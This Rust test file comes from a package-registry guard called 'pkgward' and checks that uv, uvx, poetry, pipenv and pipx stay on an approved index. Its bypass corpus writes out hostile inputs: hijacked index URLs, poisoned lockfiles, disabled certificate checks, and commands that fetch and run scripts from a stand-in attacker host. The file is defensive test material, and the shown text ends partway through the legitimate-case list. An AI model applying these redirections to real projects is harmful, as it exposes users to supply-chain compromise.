//! Approved registries for the Python tools other than pip, end to end: the
//! real uv/uvx behind the pkgward shims against the loopback simple index,
//! stand-ins for poetry, pipenv and pipx (their classification is what is
//! tested; the tools themselves are slow to set up), an unapproved listener
//! that must never be reached, a bypass corpus in enforce and audit modes, a
//! legit corpus, and a mirror forced over a hostile uv config.

mod support;

use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use support::guard::{evil, pkgward_bin, text, to_env, tree, Guarded};
use support::tools::{find_in_path, real_python, EnvList};
use support::{shared, Sandbox, Wheel};

/// The real uv: on PATH, or the one the `uv` Python package ships.
fn real_uv() -> PathBuf {
    static P: OnceLock<PathBuf> = OnceLock::new();
    P.get_or_init(|| {
        find_in_path("uv")
            .or_else(|| {
                let out = Command::new(real_python())
                    .args(["-c", "import uv; print(uv.find_uv_bin())"])
                    .output()
                    .ok()?;
                let p = PathBuf::from(String::from_utf8(out.stdout).ok()?.trim());
                p.is_file().then_some(p)
            })
            .expect("uv not found: `pip install uv` (these tests run the real uv)")
            .canonicalize()
            .unwrap()
    })
    .clone()
}

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_wheel(&Wheel::new("pw-py-dep", "1.0.0").module("VALUE = 1\n"));
        r.publish_wheel(
            &Wheel::new("pw-py-app", "1.2.0")
                .dep("pw-py-dep>=1.0")
                .module("from pw_py_dep import VALUE\nAPP = VALUE + 1\n"),
        );
        r.publish_wheel(
            &Wheel::new("pw-py-tool", "0.3.0")
                .module("def main():\n    print('pw-py-tool ran')\n")
                .dist_info_file(
                    "entry_points.txt",
                    "[console_scripts]\npw-py-tool = pw_py_tool:main\n",
                ),
        );
    });
}

fn idx() -> String {
    shared().pypi_index_url()
}

/// uv isolated in a sandbox: its cache, tool dirs, config dirs, this
/// machine's Python, no Python downloads, and a dead proxy for anything not
/// on 127.0.0.1.
fn uv_env(sb: &Sandbox) -> EnvList {
    let r = sb.root();
    let dead = "http://127.0.0.1:9";
    let mut v: EnvList = vec![
        ("UV_CACHE_DIR".into(), r.join("uv-cache").into()),
        ("UV_TOOL_DIR".into(), r.join("uv-tools").into()),
        ("UV_TOOL_BIN_DIR".into(), r.join("uv-bin").into()),
        ("UV_PYTHON".into(), real_python().into()),
        ("UV_PYTHON_DOWNLOADS".into(), "never".into()),
        ("UV_NO_PROGRESS".into(), "1".into()),
        ("UV_LINK_MODE".into(), "copy".into()),
        ("XDG_CONFIG_DIRS".into(), r.join("etc/xdg").into()),
        ("PIP_CONFIG_FILE".into(), "/dev/null".into()),
        ("PIP_DISABLE_PIP_VERSION_CHECK".into(), "1".into()),
        ("PYTHONDONTWRITEBYTECODE".into(), "1".into()),
        ("NO_PROXY".into(), "127.0.0.1,localhost".into()),
        ("no_proxy".into(), "127.0.0.1,localhost".into()),
    ];
    for k in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        v.push((k.into(), dead.into()));
    }
    v
}

/// A guarded sandbox with shims for the Python tools: the real uv/uvx, and
/// stand-ins for poetry/pipenv/pipx that record that they ran.
fn guarded(policy: &str) -> Guarded {
    fixtures();
    let g = Guarded::new(policy);
    for t in ["uv", "uvx", "poetry", "pipenv", "pipx"] {
        std::os::unix::fs::symlink(pkgward_bin(), g.shims.join(t)).unwrap();
    }
    // Small wrappers that exec the real uv/uvx (as Guarded does for pip): the
    // shim fingerprints the real tool, and hashing the uv binary anew in
    // every fresh sandbox would dominate the test's time.
    let uv = real_uv();
    for (name, target) in [("uv", uv.clone()), ("uvx", uv.with_file_name("uvx"))] {
        let p = g.real.join(name);
        std::fs::write(
            &p,
            format!("#!/bin/sh\nexec '{}' \"$@\"\n", target.display()),
        )
        .unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    for t in ["poetry", "pipenv", "pipx"] {
        fake(&g, t);
    }
    g
}

/// Replaces the real `tool` by a script that records its arguments.
fn fake(g: &Guarded, tool: &str) {
    let p = g.real.join(tool);
    let _ = std::fs::remove_file(&p);
    let mut body = format!("#!/bin/sh\necho \"$0 $*\" > \"$FIXTURE_MARKER_DIR/ran-{tool}\"\n");
    if tool == "poetry" {
        // poetry is a Python program, and pkgward's build guard loads in its
        // Python (a run without it is refused): the stand-in starts one too.
        body.push_str(&format!("exec '{}' -c ''\n", real_python().display()));
    }
    std::fs::write(&p, body).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// `tool` through its shim, with uv pointed at the approved index.
fn run(g: &Guarded, tool: &str, args: &[&str], extra: &[(&str, &str)]) -> Output {
    let base = to_env(&[("UV_DEFAULT_INDEX", idx().as_str())]);
    g.sb.command(tool, &[uv_env(&g.sb), base, g.pkgward_env(), to_env(extra)])
        .args(args)
        .output()
        .unwrap()
}

/// The real uv without pkgward, in a sandbox of its own.
fn bare_uv(sb: &Sandbox, program: &str, args: &[&str]) -> Output {
    let uv = real_uv();
    let prog = if program == "uvx" {
        uv.with_file_name("uvx")
    } else {
        uv
    };
    let base = to_env(&[("UV_DEFAULT_INDEX", idx().as_str())]);
    sb.command(prog, &[uv_env(sb), base])
        .args(args)
        .output()
        .unwrap()
}

fn policy() -> String {
    format!("mode = \"enforce\"\n[registries]\npypi = [\"{}\"]\n", idx())
}

/// The files of the installed distribution `dir` (e.g. `pw_py_app`) under a
/// directory tree, wherever site-packages is.
fn installed(root: &Path, dir: &str) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                if p.file_name().is_some_and(|n| n == dir) {
                    return tree(&p);
                }
                stack.push(p);
            }
        }
    }
    panic!("{dir} not installed under {}", root.display());
}

#[test]
fn approved_uv_pip_install_is_the_same_as_without_the_shim() {
    let g = guarded(&policy());
    let site = g.sb.root().join("site");
    let out = run(
        &g,
        "uv",
        &[
            "pip",
            "install",
            "--target",
            site.to_str().unwrap(),
            "pw-py-app",
        ],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let bare = Sandbox::new();
    let bare_site = bare.root().join("site");
    let direct = bare_uv(
        &bare,
        "uv",
        &[
            "pip",
            "install",
            "--target",
            bare_site.to_str().unwrap(),
            "pw-py-app",
        ],
    );
    assert!(direct.status.success(), "{}", text(&direct.stderr));
    assert_eq!(out.status.code(), direct.status.code());
    for d in ["pw_py_app", "pw_py_dep"] {
        assert_eq!(tree(&site.join(d)), tree(&bare_site.join(d)), "{d}");
    }
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow");
    let sources = inv["classification"]["sources"].as_array().unwrap();
    assert!(
        sources
            .iter()
            .any(|s| s["origin"]["var"] == "UV_DEFAULT_INDEX"),
        "{sources:?}"
    );
}

#[test]
fn approved_uv_project_lock_and_sync_are_the_same_as_without_the_shim() {
    let project = format!(
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"pw-py-app\"]\n\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"{}\"\ndefault = true\n",
        idx()
    );
    let g = guarded(&policy());
    g.sb.write("pyproject.toml", &project);
    let bare = Sandbox::new();
    bare.write("pyproject.toml", &project);
    for args in [&["lock"][..], &["sync", "--frozen"][..]] {
        let out = run(&g, "uv", args, &[("UV_DEFAULT_INDEX", "")]);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        assert_eq!(
            g.last_invocation()["decision"]["action"],
            "allow",
            "{args:?}"
        );
        let mut c = bare.command(real_uv(), &[uv_env(&bare)]);
        let direct = c.args(args).output().unwrap();
        assert!(
            direct.status.success(),
            "{args:?}: {}",
            text(&direct.stderr)
        );
    }
    let lock = std::fs::read_to_string(g.sb.work.join("uv.lock")).unwrap();
    assert_eq!(
        lock,
        std::fs::read_to_string(bare.work.join("uv.lock")).unwrap()
    );
    assert!(lock.contains(&idx()));
    assert_eq!(
        installed(&g.sb.work.join(".venv"), "pw_py_app"),
        installed(&bare.work.join(".venv"), "pw_py_app")
    );
    // The lockfile's registry was checked (and approved); its artifacts are
    // the index's own files, so they are not listed one by one.
    assert_eq!(g.last_invocation()["classification"]["lockfile_entries"], 1);
}

#[test]
fn approved_uvx_runs_the_tool_like_bare_uvx() {
    let g = guarded(&format!(
        "{}[scripts]\nallow = [\"pypi:pw-py-tool\"]\n",
        policy()
    ));
    let out = run(&g, "uvx", &["pw-py-tool"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let bare = Sandbox::new();
    let direct = bare_uv(&bare, "uvx", &["pw-py-tool"]);
    assert!(direct.status.success(), "{}", text(&direct.stderr));
    assert_eq!(text(&out.stdout), "pw-py-tool ran\n");
    assert_eq!(out.stdout, direct.stdout);
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
    assert_eq!(g.last_invocation()["classification"]["verb"], "execute");
}

/// One bypass attempt: a tool, its arguments, extra environment, files
/// written under the sandbox root (`work/` is the project), and what the
/// denial must name.
struct Bypass {
    name: &'static str,
    tool: &'static str,
    args: Vec<String>,
    env: Vec<(String, String)>,
    files: Vec<(String, String)>,
    names: &'static str,
}

const PYPROJECT: &str = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"pw-py-app\"]\n";

fn bypass_corpus() -> Vec<Bypass> {
    let evil_url = format!("http://127.0.0.1:{}/", evil().port());
    let approved = idx();
    let e = |s: &str| {
        s.replace("EVIL/", &evil_url)
            .replace("APPROVED/", &approved)
    };
    let b =
        |name, tool, args: &[&str], env: &[(&str, &str)], files: &[(&str, &str)], names| Bypass {
            name,
            tool,
            args: args.iter().map(|a| e(a)).collect(),
            env: env.iter().map(|(k, v)| (k.to_string(), e(v))).collect(),
            files: files.iter().map(|(p, t)| (p.to_string(), e(t))).collect(),
            names,
        };
    let lock_evil_wheel = "version = 1\nrevision = 3\nrequires-python = \">=3.8\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { virtual = \".\" }\ndependencies = [{ name = \"pw-py-app\" }]\n\n[[package]]\nname = \"pw-py-app\"\nversion = \"1.2.0\"\nsource = { registry = \"APPROVED/\" }\nwheels = [\n    { url = \"EVIL/pw_py_app-1.2.0-py3-none-any.whl\", hash = \"sha256:00\" },\n]\n";
    let lock_evil_registry = "version = 1\nrevision = 3\nrequires-python = \">=3.8\"\n\n[[package]]\nname = \"pw-py-app\"\nversion = \"1.2.0\"\nsource = { registry = \"EVIL/simple\" }\n";
    vec![
        // uv: command line.
        b("uv pip -i", "uv", &["pip", "install", "-i", "EVIL/simple", "pw-py-app"], &[], &[], "-i"),
        b("uv pip -iURL", "uv", &["pip", "install", "-iEVIL/simple", "pw-py-app"], &[], &[], "-i"),
        b("uv pip --index-url=", "uv", &["pip", "install", "--index-url=EVIL/simple", "pw-py-app"], &[], &[], "--index-url"),
        b("uv --default-index", "uv", &["pip", "install", "--default-index", "EVIL/simple", "pw-py-app"], &[], &[], "--default-index"),
        b("uv --index name=url", "uv", &["pip", "install", "--index", "evil=EVIL/simple", "pw-py-app"], &[], &[], "--index"),
        b("uv --extra-index-url", "uv", &["pip", "install", "--extra-index-url", "EVIL/simple", "pw-py-app"], &[], &[], "--extra-index-url"),
        b("uv -f", "uv", &["pip", "install", "-f", "EVIL/links", "pw-py-app"], &[], &[], "-f"),
        b("uv --allow-insecure-host", "uv", &["pip", "install", "--allow-insecure-host", "127.0.0.1", "pw-py-app"], &[], &[], "--allow-insecure-host"),
        b("uv pip --trusted-host", "uv", &["pip", "install", "--trusted-host=127.0.0.1", "pw-py-app"], &[], &[], "--trusted-host"),
        b("uv name @ URL", "uv", &["pip", "install", "pw-py-app @ EVIL/pw_py_app-1.2.0-py3-none-any.whl"], &[], &[], "pw-py-app @"),
        b("uv git+", "uv", &["pip", "install", "git+https://git.example.com/app.git"], &[], &[], "git+https://git.example.com/app.git"),
        b("uv add git+", "uv", &["add", "git+https://git.example.com/app.git"], &[], &[("work/pyproject.toml", PYPROJECT)], "git+https://git.example.com/app.git"),
        b("uv python install --mirror", "uv", &["python", "install", "--mirror", "EVIL/python"], &[], &[], "--mirror"),
        b("uv --config-file", "uv", &["pip", "install", "--config-file", "ALT_UVTOML", "pw-py-app"], &[], &[("ALT_UVTOML", "[pip]\nextra-index-url = [\"EVIL/simple\"]\n")], "alt-uv.toml:2"),
        // uv: requirement files.
        b("uv requirements -i", "uv", &["pip", "install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\npw-py-app\n")], "req.txt:1"),
        b("uv requirements nested", "uv", &["pip", "install", "-r", "req.txt"], &[], &[("work/req.txt", "-r more/inner.txt\n"), ("work/more/inner.txt", "pw-py-app\n--extra-index-url=EVIL/simple\n")], "inner.txt:2"),
        b("uv requirements ${VAR}", "uv", &["pip", "install", "-r", "req.txt"], &[("IDX", "EVIL/simple")], &[("work/req.txt", "--index-url ${IDX}\npw-py-app\n")], "req.txt:1"),
        b("uv constraints URL", "uv", &["pip", "install", "-c", "cons.txt", "pw-py-app"], &[], &[("work/cons.txt", "pw-py-app @ EVIL/app.whl\n")], "cons.txt:1"),
        b("uv pip sync file", "uv", &["pip", "sync", "locked.txt"], &[], &[("work/locked.txt", "--find-links EVIL/links\npw-py-app==1.2.0\n")], "locked.txt:1"),
        // uv: environment.
        b("UV_DEFAULT_INDEX", "uv", &["pip", "install", "pw-py-app"], &[("UV_DEFAULT_INDEX", "EVIL/simple")], &[], "UV_DEFAULT_INDEX"),
        b("UV_INDEX_URL", "uv", &["pip", "install", "pw-py-app"], &[("UV_INDEX_URL", "EVIL/simple")], &[], "UV_INDEX_URL"),
        b("UV_INDEX", "uv", &["pip", "install", "pw-py-app"], &[("UV_INDEX", "evil=EVIL/simple")], &[], "UV_INDEX"),
        b("UV_EXTRA_INDEX_URL", "uv", &["pip", "install", "pw-py-app"], &[("UV_EXTRA_INDEX_URL", "EVIL/simple")], &[], "UV_EXTRA_INDEX_URL"),
        b("UV_FIND_LINKS", "uv", &["pip", "install", "pw-py-app"], &[("UV_FIND_LINKS", "/tmp/wheels,EVIL/links")], &[], "UV_FIND_LINKS"),
        b("UV_INSECURE_HOST", "uv", &["pip", "install", "pw-py-app"], &[("UV_INSECURE_HOST", "127.0.0.1")], &[], "UV_INSECURE_HOST"),
        b("UV_CONFIG_FILE", "uv", &["pip", "install", "pw-py-app"], &[("UV_CONFIG_FILE", "ALT_UVTOML")], &[("ALT_UVTOML", "[[index]]\nurl = \"EVIL/simple\"\n")], "alt-uv.toml:2"),
        b("UV_PYTHON_INSTALL_MIRROR", "uv", &["python", "install", "3.12"], &[("UV_PYTHON_INSTALL_MIRROR", "EVIL/python")], &[], "UV_PYTHON_INSTALL_MIRROR"),
        // uv: config files.
        b("project uv.toml index-url", "uv", &["pip", "install", "pw-py-app"], &[], &[("work/uv.toml", "index-url = \"EVIL/simple\"\n")], "uv.toml:1"),
        b("project uv.toml [[index]]", "uv", &["pip", "install", "pw-py-app"], &[], &[("work/uv.toml", "# team index\n[[index]]\nname = \"team\"\nurl = \"EVIL/simple\"\n")], "uv.toml:4"),
        b("uv.toml in a parent directory", "uv", &["pip", "install", "pw-py-app"], &[], &[("uv.toml", "extra-index-url = [\"EVIL/simple\"]\n")], "uv.toml:1"),
        b("pyproject [tool.uv] extra-index-url", "uv", &["lock"], &[], &[("work/pyproject.toml", &format!("{PYPROJECT}\n[tool.uv]\nextra-index-url = [\"EVIL/simple\"]\n"))], "pyproject.toml:8"),
        b("pyproject [[tool.uv.index]] default", "uv", &["sync"], &[], &[("work/pyproject.toml", &format!("{PYPROJECT}\n[[tool.uv.index]]\nurl = \"EVIL/simple\"\ndefault = true\n"))], "pyproject.toml:8"),
        b("pyproject explicit index for a source", "uv", &["lock"], &[], &[("work/pyproject.toml", &format!("{PYPROJECT}\n[tool.uv.sources]\npw-py-app = {{ index = \"evil\" }}\n[[tool.uv.index]]\nname = \"evil\"\nurl = \"EVIL/simple\"\nexplicit = true\n"))], "pyproject.toml:11"),
        b("pyproject [tool.uv.sources] url", "uv", &["sync"], &[], &[("work/pyproject.toml", &format!("{PYPROJECT}\n[tool.uv.sources]\npw-py-app = {{ url = \"EVIL/app.whl\" }}\n"))], "pyproject.toml:8"),
        b("pyproject direct reference", "uv", &["lock"], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n  \"pw-py-app @ EVIL/app.whl\",\n]\n")], "pyproject.toml:5"),
        b("user uv.toml", "uv", &["pip", "install", "pw-py-app"], &[], &[("home/.config/uv/uv.toml", "extra-index-url = [\"EVIL/simple\"]\n")], "uv.toml:1"),
        b("uv --directory with a hostile uv.toml", "uv", &["--directory", "sub", "pip", "install", "pw-py-app"], &[], &[("work/sub/uv.toml", "index-url = \"EVIL/simple\"\n")], "sub/uv.toml:1"),
        // uv: lockfiles and scripts.
        b("uv.lock wheel URL, --frozen", "uv", &["sync", "--frozen"], &[], &[("work/pyproject.toml", PYPROJECT), ("work/uv.lock", lock_evil_wheel)], "uv.lock:16"),
        b("uv.lock registry", "uv", &["sync"], &[], &[("work/pyproject.toml", PYPROJECT), ("work/uv.lock", lock_evil_registry)], "uv.lock:8"),
        b("PEP 723 script index", "uv", &["run", "script.py"], &[], &[("work/script.py", "# /// script\n# dependencies = [\"pw-py-app\"]\n# [tool.uv]\n# index-url = \"EVIL/simple\"\n# ///\nimport pw_py_app\n")], "script.py:4"),
        b("uv run --with URL", "uv", &["run", "--with", "pw-py-app @ EVIL/app.whl", "python", "-c", "1"], &[], &[], "--with"),
        b("uv run remote script", "uv", &["run", "EVIL/script.py"], &[], &[], "EVIL/script.py"),
        // uvx.
        b("uvx --index-url", "uvx", &["--index-url", "EVIL/simple", "pw-py-tool"], &[], &[], "--index-url"),
        b("uvx --from git+", "uvx", &["--from", "git+https://git.example.com/tool.git", "pw-py-tool"], &[], &[], "--from"),
        b("uvx --with URL", "uvx", &["--with", "x @ EVIL/x.whl", "pw-py-tool"], &[], &[], "--with"),
        b("uvx git+ package", "uvx", &["git+https://git.example.com/tool.git"], &[], &[], "git+https://git.example.com/tool.git"),
        b("uv tool install --index", "uv", &["tool", "install", "--index", "EVIL/simple", "pw-py-tool"], &[], &[], "--index"),
        // poetry.
        b("poetry primary source", "poetry", &["install"], &[], &[("work/pyproject.toml", "[tool.poetry]\nname = \"app\"\n\n[[tool.poetry.source]]\nname = \"evil\"\nurl = \"EVIL/simple\"\npriority = \"primary\"\n")], "pyproject.toml:6"),
        b("poetry supplemental source", "poetry", &["lock"], &[], &[("work/pyproject.toml", "[[tool.poetry.source]]\nname = \"evil\"\nurl = \"EVIL/simple\"\npriority = \"supplemental\"\n")], "pyproject.toml:3"),
        b("poetry git dependency", "poetry", &["install"], &[], &[("work/pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.9\"\nx = { git = \"https://git.example.com/x.git\" }\n")], "pyproject.toml:3"),
        b("poetry.lock url package", "poetry", &["install"], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\n"), ("work/poetry.lock", "[[package]]\nname = \"x\"\nversion = \"1\"\nfiles = []\n\n[package.source]\ntype = \"url\"\nurl = \"EVIL/x-1-py3-none-any.whl\"\n")], "poetry.lock:8"),
        b("poetry add git+", "poetry", &["add", "git+https://git.example.com/x.git"], &[], &[], "git+https://git.example.com/x.git"),
        b("poetry add name@URL", "poetry", &["add", "x@EVIL/x.whl"], &[], &[], "x@"),
        b("poetry source add", "poetry", &["source", "add", "evil", "EVIL/simple"], &[], &[], "EVIL/simple"),
        b("poetry certificate off", "poetry", &["install"], &[("POETRY_CERTIFICATES_CORP_CERT", "false")], &[], "POETRY_CERTIFICATES_CORP_CERT"),
        // pipenv.
        b("Pipfile source", "pipenv", &["install"], &[], &[("work/Pipfile", "[[source]]\nurl = \"EVIL/simple\"\nverify_ssl = false\nname = \"evil\"\n\n[packages]\npw-py-app = \"*\"\n")], "Pipfile:2"),
        b("Pipfile extra source", "pipenv", &["install"], &[], &[("work/Pipfile", "[[source]]\nurl = \"APPROVED/\"\nname = \"ok\"\n\n[[source]]\nurl = \"EVIL/simple\"\nname = \"evil\"\n")], "Pipfile:6"),
        b("Pipfile.lock source", "pipenv", &["sync"], &[], &[("work/Pipfile", "[[source]]\nurl = \"APPROVED/\"\nname = \"ok\"\n"), ("work/Pipfile.lock", "{\n  \"_meta\": {\n    \"sources\": [\n      {\"name\": \"ok\", \"url\": \"EVIL/simple\", \"verify_ssl\": false}\n    ]\n  },\n  \"default\": {}\n}\n")], "Pipfile.lock:4"),
        b("pipenv --pypi-mirror", "pipenv", &["install", "--pypi-mirror", "EVIL/simple"], &[], &[], "--pypi-mirror"),
        b("PIPENV_PYPI_MIRROR", "pipenv", &["install"], &[("PIPENV_PYPI_MIRROR", "EVIL/simple")], &[], "PIPENV_PYPI_MIRROR"),
        b("pipenv --extra-pip-args", "pipenv", &["install", "--extra-pip-args", "--extra-index-url EVIL/simple", "pw-py-app"], &[], &[], "--extra-pip-args"),
        b("pipenv PIP_EXTRA_INDEX_URL", "pipenv", &["install"], &[("PIP_EXTRA_INDEX_URL", "EVIL/simple")], &[], "PIP_EXTRA_INDEX_URL"),
        b("pipenv git+", "pipenv", &["install", "git+https://git.example.com/x.git"], &[], &[], "git+https://git.example.com/x.git"),
        // pipx.
        b("pipx --index-url", "pipx", &["install", "--index-url", "EVIL/simple", "pw-py-tool"], &[], &[], "--index-url"),
        b("pipx --pip-args", "pipx", &["install", "--pip-args=--extra-index-url EVIL/simple", "pw-py-tool"], &[], &[], "--extra-index-url"),
        b("pipx git+", "pipx", &["install", "git+https://git.example.com/t.git"], &[], &[], "git+https://git.example.com/t.git"),
        b("pipx run remote script", "pipx", &["run", "EVIL/tool.py"], &[], &[], "EVIL/tool.py"),
        b("pipx run --spec URL", "pipx", &["run", "--spec", "t @ EVIL/t.whl", "t"], &[], &[], "--spec"),
        b("pipx PIP_INDEX_URL", "pipx", &["install", "pw-py-tool"], &[("PIP_INDEX_URL", "EVIL/simple")], &[], "PIP_INDEX_URL"),
        b("pipx UV_INDEX", "pipx", &["install", "pw-py-tool"], &[("UV_INDEX", "EVIL/simple")], &[], "UV_INDEX"),
        b("pipx pip.conf", "pipx", &["install", "pw-py-tool"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[global]\nextra-index-url = EVIL/simple\n")], "alt-pip.conf:2"),
    ]
}

fn apply(g: &Guarded, b: &Bypass) -> (Vec<String>, Vec<(String, String)>) {
    let root = g.sb.root();
    let fix = |s: &str| {
        s.replace(
            "ALT_UVTOML",
            &root.join("alt-uv.toml").display().to_string(),
        )
        .replace(
            "ALT_PIPCONF",
            &root.join("alt-pip.conf").display().to_string(),
        )
    };
    for (rel, text) in &b.files {
        let p = if rel.starts_with("ALT_") {
            PathBuf::from(fix(rel))
        } else {
            root.join(rel)
        };
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    }
    (
        b.args.iter().map(|a| fix(a)).collect(),
        b.env.iter().map(|(k, v)| (k.clone(), fix(v))).collect(),
    )
}

fn names(b: &Bypass) -> String {
    b.names
        .replace("EVIL/", &format!("http://127.0.0.1:{}/", evil().port()))
}

#[test]
fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
    let corpus = bypass_corpus();
    assert!(corpus.len() >= 25, "the corpus has {} cases", corpus.len());
    for t in ["uv", "uvx", "poetry", "pipenv", "pipx"] {
        assert!(corpus.iter().any(|b| b.tool == t), "no {t} case");
    }
    let before = evil().connections().len();
    let mut failures = Vec::new();
    for b in &corpus {
        let g = guarded(&policy());
        let (args, env) = apply(&g, b);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let out = run(&g, b.tool, &args, &env);
        let err = text(&out.stderr);
        let want = names(b);
        if out.status.code() != Some(77) || !err.contains("pkgward: denied") || !err.contains(&want)
        {
            failures.push(format!(
                "{}: exit {:?}, want `{want}`\n{err}",
                b.name,
                out.status.code()
            ));
            continue;
        }
        if g.sb.marker(&format!("ran-{}", b.tool)).is_some() {
            failures.push(format!("{}: the tool ran", b.name));
        }
        if g.last_invocation()["decision"]["action"] != "deny" {
            failures.push(format!(
                "{}: recorded {}",
                b.name,
                g.last_invocation()["decision"]
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} not denied:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the unapproved listener was reached"
    );
}

#[test]
fn bypass_corpus_is_recorded_in_audit_mode() {
    // Audit mode runs the tool: stand-ins that only record their argv.
    let audit = policy().replace("\"enforce\"", "\"audit\"");
    let mut failures = Vec::new();
    let corpus = bypass_corpus();
    for b in &corpus {
        let g = guarded(&audit);
        for t in ["uv", "uvx"] {
            fake(&g, t);
        }
        let (args, env) = apply(&g, b);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let out = run(&g, b.tool, &args, &env);
        let inv = g.last_invocation();
        if out.status.code() != Some(0)
            || g.sb.marker(&format!("ran-{}", b.tool)).is_none()
            || inv["decision"]["action"] != "would-deny"
        {
            failures.push(format!(
                "{}: exit {:?}, recorded {}\n{}",
                b.name,
                out.status.code(),
                inv["decision"],
                text(&out.stderr)
            ));
        }
        if !out.stdout.is_empty() {
            failures.push(format!("{}: pkgward wrote to stdout", b.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
}

#[test]
fn legit_corpus_has_no_denials() {
    let idx = idx();
    // Fetch-and-execute is allowed here: this corpus is about registries.
    let policy = format!(
        "mode = \"enforce\"\n[registries]\npypi = [\"builtin\", \"{idx}\", \"https://pypi.example.com/simple/\"]\n[scripts]\nexec = \"allow\"\n"
    );
    let upper = idx.replace("http://", "HTTP://");
    let lock = format!(
        "version = 1\nrevision = 3\n\n[[package]]\nname = \"pw-py-app\"\nversion = \"1.2.0\"\nsource = {{ registry = \"{idx}\" }}\nwheels = [\n    {{ url = \"{base}packages/pw-py-app/pw_py_app-1.2.0-py3-none-any.whl\", hash = \"sha256:00\" }},\n]\n",
        base = idx.trim_end_matches("simple/")
    );
    let pyproject = format!(
        "{PYPROJECT}\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"{idx}\"\ndefault = true\n"
    );
    let poetry = format!("[tool.poetry]\nname = \"app\"\n\n[[tool.poetry.source]]\nname = \"corp\"\nurl = \"{idx}\"\npriority = \"primary\"\n\n[tool.poetry.dependencies]\nlocal = {{ path = \"../local\", develop = true }}\n");
    let poetry_lock = format!("[[package]]\nname = \"pw-py-app\"\nversion = \"1.2.0\"\nfiles = []\n\n[package.source]\ntype = \"legacy\"\nurl = \"{idx}\"\nreference = \"corp\"\n");
    let pipfile = "[[source]]\nurl = \"https://pypi.example.com/simple/\"\nverify_ssl = true\nname = \"corp\"\n\n[packages]\npw-py-app = \"*\"\nlocal = { path = \"./local\", editable = true }\n";
    let pipfile_lock = "{\"_meta\": {\"sources\": [{\"name\": \"corp\", \"url\": \"https://pypi.example.com/simple/\", \"verify_ssl\": true}]}, \"default\": {\"pw-py-app\": {\"version\": \"==1.2.0\", \"index\": \"corp\", \"hashes\": []}}}";
    struct Legit {
        name: &'static str,
        tool: &'static str,
        args: Vec<String>,
        env: Vec<(&'static str, String)>,
        files: Vec<(&'static str, String)>,
    }
    let l = |name,
             tool,
             args: &[&str],
             env: &[(&'static str, &str)],
             files: &[(&'static str, String)]| Legit {
        name,
        tool,
        args: args.iter().map(|a| a.to_string()).collect(),
        env: env.iter().map(|(k, v)| (*k, v.to_string())).collect(),
        files: files.to_vec(),
    };
    let cases = vec![
        l("uv --version", "uv", &["--version"], &[], &[]),
        l("uv pip install from the approved index", "uv", &["pip", "install", "-i", &idx, "pw-py-app"], &[], &[]),
        l("uv pip install, builtin index", "uv", &["pip", "install", "pw-py-app"], &[("UV_DEFAULT_INDEX", "")], &[]),
        l("uv approved extra index, scheme/host case", "uv", &["pip", "install", "--extra-index-url", "HTTPS://PYPI.EXAMPLE.COM/simple/", "--default-index", &upper, "x"], &[], &[]),
        l("uv local find-links and path", "uv", &["pip", "install", "--no-index", "-f", "./wheels", "./local-pkg", "-e", "../other"], &[], &[]),
        l("uv requirements with approved index", "uv", &["pip", "install", "-r", "req.txt"], &[], &[("work/req.txt", format!("-i {idx}\n--extra-index-url https://pypi.example.com/simple/\npw-py-app==1.2.0 --hash=sha256:00\n./local\n"))]),
        l("uv project with approved index and lock", "uv", &["sync", "--frozen"], &[], &[("work/pyproject.toml", pyproject.clone()), ("work/uv.lock", lock.clone())]),
        l("uv lock, path source", "uv", &["lock"], &[], &[("work/pyproject.toml", format!("{pyproject}\n[tool.uv.sources]\nlib = {{ path = \"../lib\", editable = true }}\n"))]),
        l("uv run, the command's own flags", "uv", &["run", "python", "-m", "pip", "--index-url", "http://not-uv.test/"], &[], &[("work/pyproject.toml", pyproject.clone())]),
        l("uv run script with approved index", "uv", &["run", "s.py"], &[], &[("work/s.py", format!("# /// script\n# dependencies = [\"pw-py-app\"]\n# [tool.uv]\n# index-url = \"{idx}\"\n# ///\n"))]),
